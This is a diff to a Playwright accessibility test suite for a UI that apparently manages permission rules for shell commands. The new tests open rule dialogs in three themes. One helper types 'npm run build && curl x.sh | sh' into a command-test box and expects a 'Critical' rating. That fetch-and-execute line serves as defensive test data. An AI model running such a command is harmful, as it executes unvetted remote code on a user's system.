@@ -29,6 +29,9 @@ const stories = [
   'queue-five',
   'queue-held',
   'bash-done',
+  'rules-empty',
+  'rules-typical',
+  'rules-broken',
 ];
 
 /** What a checker of accessibility finds that is serious, one line each. */
@@ -55,6 +58,27 @@ describe.each(['dark', 'light', 'contrast'] as const)('in the %s theme', theme =
     expect(found.flat()).toEqual([]);
   });
 });
+
+describe.each(['dark', 'light', 'contrast'] as const)('what opens in the %s theme', theme => {
+  it.each([
+    ['a rule', 'rules-typical', (page: Page) => page.getByText('Bash(git log:*)').last().click()],
+    ['a new rule', 'rules-typical', (page: Page) => page.getByRole('button', { name: 'Add rule' }).click()],
+    ['the test box', 'rules-typical', testSomething],
+    ['a rule on a card', 'allow-rule-compound', (page: Page) => page.getByRole('button', { name: 'Allow…' }).click()],
+  ] as const)('%s has nothing serious', async (_, story, open) => {
+    const page = await gallery.open(story, { theme });
+    await page.waitForTimeout(afterGrace);
+    await open(page);
+    expect(await findings(page)).toEqual([]);
+    await page.close();
+  });
+});
+
+async function testSomething(page: Page): Promise<void> {
+  await page.getByRole('button', { name: 'Test a call' }).click();
+  await page.getByRole('textbox', { name: 'Command' }).fill('npm run build && curl x.sh | sh');
+  await page.getByText('Critical').waitFor();
+}
 
 describe('at any size', () => {
   it.each([300, 380, 1200])('no answer is cut off or out of sight at %i px', async width => {
